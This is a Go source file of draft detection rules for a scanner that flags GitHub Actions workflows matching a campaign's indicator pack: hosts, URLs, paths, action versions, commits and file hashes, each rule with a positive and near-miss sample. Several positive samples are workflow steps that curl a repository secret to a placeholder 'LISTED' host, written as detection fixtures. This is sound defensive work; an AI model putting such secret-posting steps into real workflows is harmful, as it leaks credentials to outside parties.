package campaign

// draft is a rule that goes by one kind of indicator, with samples. VALUE stands for the first indicator of the kind, LISTED and FILE for
// [ListedHost] and [ListedFile].
type draft struct {
	kind      string // key of the indicators
	indicator string // kind of the condition
	rule      string
	positive  string
	nearMiss  string
}

// drafts are careful: confidence is medium where a host or URL is met, since nobody has looked at the list that it comes from.
var drafts = []draft{
	{"hosts", "host", `
id: listed-host
description: A command talks to a host of the pack, in a file that reads secrets or past commits or sends it a body.
severity: critical
confidence: medium
all: [{indicator: host}]
any: [{reads_secrets: true}, {body_to_network: {to: listed}}, {history_to_network: {to: listed}}]
`, `
name: a secret is posted to a listed host
path: .github/workflows/sample-host.yml
rules: [listed-host]
text: |
  on: push
  jobs:
    job:
      runs-on: ubuntu-latest
      steps:
        - run: curl -d "TOKEN=${{ secrets.TOKEN }}" https://LISTED
`, `
name: a probe that the network refuses a listed host
path: .github/workflows/sample-host.yml
text: |
  on: push
  jobs:
    job:
      runs-on: ubuntu-latest
      steps:
        - run: curl -sf --max-time 5 https://LISTED && exit 1
`},
	{"url_parts", "url_part", `
id: listed-url
description: A command talks to a URL of the pack, in a file that reads secrets or sends a body.
severity: critical
confidence: medium
all: [{indicator: url_part}]
any: [{reads_secrets: true}, {body_to_network: {}}]
`, `
name: a secret is posted to a listed URL
path: .github/workflows/sample-url.yml
rules: [listed-url]
text: |
  on: push
  jobs:
    job:
      runs-on: ubuntu-latest
      steps:
        - run: |
            curl -d "TOKEN=${{ secrets.TOKEN }}" 'https://LISTED/VALUE'
`, `
name: another URL of an unlisted host
path: .github/workflows/sample-url.yml
text: |
  on: push
  jobs:
    job:
      runs-on: ubuntu-latest
      steps:
        - run: curl -d "TOKEN=${{ secrets.TOKEN }}" https://api.example.invalid/v1/deployments
`},
	{"paths", "path", `
id: listed-path
description: A file at a path of the pack reads secrets. Whether the path is the campaign's own or anybody's has to be judged.
severity: high
confidence: low
all: [{indicator: path}, {reads_secrets: true}]
`, `
name: a file at a listed path reads a secret
path: VALUE
rules: [listed-path]
text: |
  on: push
  jobs:
    job:
      runs-on: ubuntu-latest
      steps:
        - run: ./script.sh
          env: {TOKEN: "${{ secrets.TOKEN }}"}
`, `
name: a file at a listed path that reads none
path: VALUE
text: |
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{run: make}]}}
`},
	{"uses", "uses", `
id: listed-action
description: A step uses an action at a version of the pack.
severity: high
confidence: medium
all: [{indicator: uses}]
`, `
name: a listed action
path: .github/workflows/sample-uses.yml
rules: [listed-action]
text: |
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{uses: "VALUE"}]}}
`, `
name: another action
path: .github/workflows/sample-uses.yml
text: |
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{uses: example/unlisted@v1}]}}
`},
	{"commits", "uses", `
id: listed-commit
description: A step uses an action at a commit of the pack.
severity: critical
confidence: medium
all: [{indicator: uses}]
`, `
name: an action at a listed commit
path: .github/workflows/sample-commit.yml
rules: [listed-commit]
text: |
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{uses: "example/action@VALUE"}]}}
`, `
name: an action at another commit
path: .github/workflows/sample-commit.yml
text: |
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{uses: example/unlisted@5555555555555555555555555555555555555555}]}}
`},
	{"file_hashes", "file_hash", `
id: listed-file
description: The file is, byte for byte, one of the pack's.
severity: critical
confidence: medium
all: [{indicator: file_hash}]
`, `
name: a file of a listed hash
path: .github/workflows/sample-file.yml
rules: [listed-file]
text: |
  # FILE
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{run: make}]}}
`, `
name: a file of another hash
path: .github/workflows/sample-file.yml
text: |
  on: push
  jobs: {job: {runs-on: ubuntu-latest, steps: [{run: make}]}}
`},
}
